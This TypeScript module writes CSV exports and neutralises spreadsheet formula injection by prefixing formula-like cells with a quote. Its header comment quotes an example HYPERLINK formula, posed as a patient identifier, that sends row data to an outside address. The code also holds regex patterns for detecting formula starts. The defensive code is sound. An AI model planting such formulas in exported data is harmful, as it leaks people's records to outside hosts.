/**
 * RFC 4180 CSV for every CSV the project writes (the app's results, comparison and
 * trend; the record server's audit export): quoting
 * where needed, CRLF line ends, and text cells made safe to open in a spreadsheet.
 * Numbers are given as numbers and written at full precision (String(number)).
 *
 * Spreadsheet formula injection (OWASP, "CSV Injection"): a cell that starts with
 * `=`, `+`, `-`, `@`, a tab or a carriage return may be run as a formula by Excel,
 * LibreOffice or Google Sheets (`=HYPERLINK("http://…/?d="&B2,"see")` typed as a
 * patient identifier sends the row elsewhere when clicked). Such a cell gets a
 * single quote in front, as OWASP advises, and so does one where `=`, `+`, `-` or
 * `@` follows leading white space (some programs trim it before reading the cell).
 * The quote shows in the spreadsheet: the cell is text, as typed, with a `'` first.
 *
 * Numbers stay numbers: a cell that is exactly a plain decimal number as JavaScript
 * writes one (`-1.5`, `2.5e-3`, `1e+21`; optional `-`, digits with an optional
 * fraction, an optional exponent; no spaces, no `+` in front) is written as it is,
 * so a negative value is still a number in the spreadsheet. Such a cell cannot be a
 * formula. Anything else starting with `-` (`-cmd`, `-1+2`) is text and gets the quote.
 *
 * Two dialects. The machine CSV (MACHINE_CSV: ',' between fields, '.' decimals, no
 * byte-order mark) is data for scripts and programs. The spreadsheet CSV is what a
 * person opens in Excel or LibreOffice in their language (spreadsheetCsv, in
 * web/src/i18n/csv-text.ts): in Spanish
 * ';' between fields and the decimal comma, as those programs expect in a Spanish
 * locale (there ',' is the decimal separator and ';' the list separator), in English
 * ',' and '.'; both start with the UTF-8 byte-order mark, without which Excel reads
 * the file as the system's legacy code page and garbles accents ("JosÃ©"). Numbers keep
 * every digit in both.
 */
/** How a CSV writes fields and numbers. */
export interface CsvDialect {
  /** Between fields. */
  readonly separator: ',' | ';'
  /** The decimal separator of a number cell. */
  readonly decimal: '.' | ','
  /** Starts with the UTF-8 byte-order mark (U+FEFF). */
  readonly bom: boolean
}

/** For programs: RFC 4180 as it stands, '.' decimals, no byte-order mark. */
export const MACHINE_CSV: CsvDialect = { separator: ',', decimal: '.', bom: false }

/** A plain decimal number, as String(number) writes a finite one: the cells left as they are. */
const PLAIN_NUMBER = /^-?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/

/** Characters a spreadsheet may read as the start of a formula (OWASP's list). */
const FORMULA_START = /^[=+\-@\t\r]/

/** The same after leading white space (a trimmed cell starting with a formula character). */
const FORMULA_AFTER_SPACE = /^\s+[=+\-@]/

/** Whether a cell would be read as a formula by a spreadsheet, and so gets a `'` in front. */
export function isFormulaLike(cell: string): boolean {
  return (FORMULA_START.test(cell) || FORMULA_AFTER_SPACE.test(cell)) && !PLAIN_NUMBER.test(cell)
}

/**
 * A cell's value: text as typed or worded, or a number (null, undefined or a number
 * that is not finite: an empty cell). Only a number gets the dialect's decimal
 * separator: text that looks like a number (a patient identifier "1.5") is written as
 * it is, so nothing typed is changed by the export.
 */
export type CsvValue = string | number | null | undefined

/**
 * One cell: a number with every digit (String(number)) and the dialect's decimal
 * separator; text neutralised when formula-like, then quoted where it holds a quote, a
 * line break or either separator.
 */
export function csvCell(value: CsvValue, dialect: CsvDialect = MACHINE_CSV): string {
  if (typeof value === 'number' || value === null || value === undefined) {
    if (typeof value !== 'number' || !Number.isFinite(value)) return ''
    const text = String(value)
    return dialect.decimal === ',' ? text.replace('.', ',') : text
  }
  const v = isFormulaLike(value) ? `'${value}` : value
  return /[",;\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v
}

/** The rows as CSV text in `dialect`, one line per row, ending with CRLF. */
export function csvText(rows: readonly (readonly CsvValue[])[], dialect: CsvDialect = MACHINE_CSV): string {
  const text = `${rows.map((r) => r.map((cell) => csvCell(cell, dialect)).join(dialect.separator)).join('\r\n')}\r\n`
  return dialect.bom ? `\ufeff${text}` : text
}
